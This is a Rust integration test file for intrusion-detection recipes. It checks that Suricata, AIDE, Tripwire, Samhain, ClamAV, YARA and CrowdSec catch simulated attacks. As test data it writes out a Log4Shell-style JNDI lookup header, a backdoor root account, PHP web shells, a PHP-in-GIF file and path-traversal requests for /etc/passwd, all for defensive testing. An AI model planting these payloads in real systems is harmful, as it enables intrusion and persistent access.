//! The recipes of `examples/`: each with the real IDS, from its own files, and an attack that it
//! must see.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::time::Duration;

use hyperspector_tests::{Fleet, Recipe, TestHost, wait_until};

/// Brings a recipe up on a host.
#[track_caller]
fn up(host: &TestHost, recipe: &Recipe) {
    let spec = host.spec(recipe.text());
    host.up(&spec);
}

/// A web server that answers every request with nothing, until the test ends.
fn serve(host: &TestHost) {
    let listener = host.net.within(|| TcpListener::bind("0.0.0.0:80").unwrap());
    std::thread::spawn(move || {
        for mut client in listener.incoming().flatten() {
            let _ = client.read(&mut [0; 4096]);
            let _ = client.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
        }
    });
}

/// Sends a request from one host to another, and waits for the answer.
fn request(from: &TestHost, to: &TestHost, header: &str) {
    let address = (to.address(), 80);
    let mut stream = from.net.within(|| TcpStream::connect(address).unwrap());
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let text = format!("GET / HTTP/1.1\r\nHost: web1\r\n{header}\r\n\r\n");
    stream.write_all(text.as_bytes()).unwrap();
    let _ = stream.read(&mut [0; 4096]);
}

#[test]
fn suricata_sees_an_exploit_in_a_request() {
    let fleet = Fleet::new(&["web1", "attacker"]);
    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
    serve(host);
    up(host, &Recipe::of("suricata"));
    host.wait_log("alpha/nids", "Engine started");
    let threads = "Threads created -> W: 2";
    assert!(host.logs("alpha/nids").contains(threads), "{}", host.logs("alpha/nids"));
    let alerts = || host.exec("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).stdout;
    request(attacker, host, "User-Agent: none");
    wait_until("Suricata sees the exploit", || {
        request(attacker, host, "User-Agent: ${jndi:ldap://192.0.2.66/a}");
        alerts().contains("JNDI lookup in a request")
    });
    assert!(alerts().contains("-> 192.0.2.11:80"), "{}", alerts());
    assert!(!alerts().contains("path traversal"), "{}", alerts());
}

/// A server's files, as small as they can be.
#[derive(Debug)]
struct Shop(PathBuf);

impl Shop {
    fn make(fleet: &Fleet) -> Self {
        let shop = Self(fleet.dir().join("shop"));
        for (path, text) in [
            ("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
            ("etc/hosts", "127.0.0.1 localhost\n"),
            ("usr/bin/login", "\x7fELF, as it were\n"),
            ("srv/www/index.html", "<h1>Shop</h1>\n"),
            ("var/log/auth.log", "a line\n"),
        ] {
            shop.write(path, text);
        }
        shop
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.0.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn append(&self, path: &str, text: &str) {
        let mut file = fs::OpenOptions::new().append(true).open(self.0.join(path)).unwrap();
        file.write_all(text.as_bytes()).unwrap();
    }

    /// Somebody gets in: an account, a program in place of another, and what is written anyway.
    fn break_in(&self) {
        self.append("etc/passwd", "toor:x:0:0::/:/bin/sh\n");
        self.write("usr/bin/login", "\x7fELF, with a back door\n");
        self.append("var/log/auth.log", "another line\n");
    }
}

/// Brings up a recipe for a server's files, and waits for the end of its first run.
#[track_caller]
fn first_run(host: &TestHost, recipe: &Recipe, portspace: &str) {
    up(host, recipe);
    let portspace = host.wait_state(portspace, "waiting");
    assert_eq!(portspace.rest["last_end"]["status"], 0, "{portspace:?}");
}

#[test]
fn aide_finds_what_a_break_in_changed() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(host, &Recipe::of("aide").with_path("/srv/shop", &shop.0), "alpha/fim");
    let check = || host.exec("alpha/fim", &["/etc/ids/check"]).expect(0).stdout;
    assert!(check().contains("found NO differences"), "{}", check());
    shop.break_in();
    let found = check();
    let changed: Vec<&str> = found.lines().filter_map(|line| line.strip_prefix("f ")).collect();
    assert_eq!(changed.len(), 2, "{found}");
    assert!(changed[0].ends_with(": /etc/passwd"), "{found}");
    assert!(changed[1].ends_with(": /usr/bin/login"), "{found}");
    host.exec("alpha/fim", &["/etc/ids/accept"]).expect(0);
    assert!(check().contains("found NO differences"), "{}", check());
}

#[test]
fn tripwire_finds_what_a_break_in_changed() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(host, &Recipe::of("tripwire").with_path("/srv/shop", &shop.0), "alpha/tripwire");
    let check = || host.exec("alpha/tripwire", &["/etc/ids/check"]).expect(0).stdout;
    assert!(check().contains("Total violations found:  0"), "{}", check());
    shop.break_in();
    let found = check();
    assert!(found.contains("Total violations found:  2"), "{found}");
    for path in ["etc/passwd", "usr/bin/login"] {
        let modified = format!("Modified:\n\"/.serverfs/shop/{path}\"\n");
        assert!(found.contains(&modified), "{found}");
    }
    host.exec("alpha/tripwire", &["/etc/ids/accept"]).expect(0);
    assert!(check().contains("Total violations found:  0"), "{}", check());
}

#[test]
fn samhain_is_told_of_what_a_break_in_changes() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    up(host, &Recipe::of("samhain").with_path("/srv/shop", &shop.0));
    let log = || host.exec("alpha/samhain", &["cat", "/var/log/samhain/samhain.log"]).stdout;
    wait_until("Samhain watches", || log().contains("File check completed"));
    assert!(!log().contains("CRIT"), "{}", log());
    let alerted = |path: &str| {
        let path = format!("path=</.serverfs/shop/{path}>");
        log().lines().any(|line| line.contains("CRIT") && line.contains(&path))
    };
    // Soon, and not after the ten minutes that lie between two checks. What happens just after the
    // first check, while Samhain still asks for events, is found by the next.
    wait_until("Samhain is told of etc/hosts", || {
        shop.append("etc/hosts", "192.0.2.66 shop\n");
        alerted("etc/hosts")
    });
    shop.break_in();
    for path in ["etc/passwd", "usr/bin/login"] {
        wait_until(&format!("Samhain is told of {path}"), || alerted(path));
    }
    assert!(!log().contains("auth.log>"), "a log that grows is no alarm: {}", log());
    let alerts = || log().matches("CRIT").count();
    let (before, starts) = (alerts(), log().matches("<START>").count());
    host.exec("alpha/samhain", &["/etc/samhain/accept"]).expect(0);
    wait_until("Samhain checks anew", || {
        log().rsplit("<START>").next().unwrap().contains("File check completed")
            && log().matches("<START>").count() > starts
    });
    assert_eq!(alerts(), before, "what was accepted is no alarm: {}", log());
}

#[test]
fn clamav_finds_the_test_file_and_a_web_shell() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(host, &Recipe::of("clamav").with_path("/srv/shop", &shop.0), "alpha/av");
    let found = || host.exec("alpha/av", &["cat", "/var/log/clamav/found.log"]).text();
    assert!(found().contains("Infected files: 0"), "{}", found());
    // In two parts, so that this file is none.
    let parts = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"];
    shop.write("srv/www/eicar.com", &parts.concat());
    shop.write("srv/www/up.php", "<?php eval($_POST['x']);");
    host.exec("alpha/av", &["/etc/ids/scan"]).expect(0);
    for alert in ["eicar.com: Test.File.EICAR.UNOFFICIAL", "up.php: Local.WebShell.PHP.UNOFFICIAL"]
    {
        assert!(found().contains(&format!("/.serverfs/shop/srv/www/{alert} FOUND")), "{}", found());
    }
    assert!(found().contains("Infected files: 2"), "{}", found());
}

#[test]
fn yara_finds_a_web_shell() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    let recipe = Recipe::of("yara").with_path("/srv/www", &shop.0.join("srv/www"));
    first_run(host, &recipe, "alpha/yara");
    let found = || host.exec("alpha/yara", &["cat", "/var/log/yara/found.log"]).text();
    assert_eq!(found(), "");
    shop.write("srv/www/up.php", "<?php @eval(base64_decode($_POST['x']));");
    shop.write("srv/www/logo.gif", "GIF89a<?php phpinfo();");
    host.exec("alpha/yara", &["/etc/ids/scan"]).expect(0);
    let lines: Vec<String> = found().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    for alert in ["php_web_shell /.serverfs/site/up.php", "image_with_php /.serverfs/site/logo.gif"]
    {
        assert!(lines.iter().any(|line| line.ends_with(alert)), "{lines:?}");
    }
}

#[test]
fn crowdsec_sees_who_guesses_passwords_and_who_climbs_out_of_the_document_root() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    shop.write("var/log/nginx/access.log", "");
    up(host, &Recipe::of("crowdsec").with_path("/var/log", &shop.0.join("var/log")));
    host.wait_log("alpha/crowdsec", "Starting processing data");
    let list = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-o", "raw"];
    let alerts = || host.exec("alpha/crowdsec", &list).stdout;
    let sshd = |what: &str| format!("Nov 23 07:00:00 web1 sshd[17]: {what} port 4242 ssh2\n");
    shop.append("var/log/auth.log", &sshd("Accepted password for shop from 192.0.2.12"));
    // Not all at once: CrowdSec begins at the end that it finds.
    wait_until("CrowdSec sees the guesses", || {
        let guess = "Failed password for invalid user admin from 192.0.2.66";
        shop.append("var/log/auth.log", &sshd(guess));
        alerts().contains("Ip,192.0.2.66,crowdsecurity/ssh-bf,")
    });
    wait_until("CrowdSec sees the climbing", || {
        let requests = (0..5).map(|number| {
            format!(
                "192.0.2.77 - - [23/Nov/2026:07:00:00 +0000] \"GET /{number}/../../etc/passwd \
                 HTTP/1.1\" 404 12 \"-\" \"curl/8.0\"\n"
            )
        });
        shop.append("var/log/nginx/access.log", &requests.collect::<String>());
        alerts().contains("Ip,192.0.2.77,crowdsecurity/http-path-traversal-probing,")
    });
    assert!(!alerts().contains("192.0.2.12"), "who is let in is no alarm: {}", alerts());
}
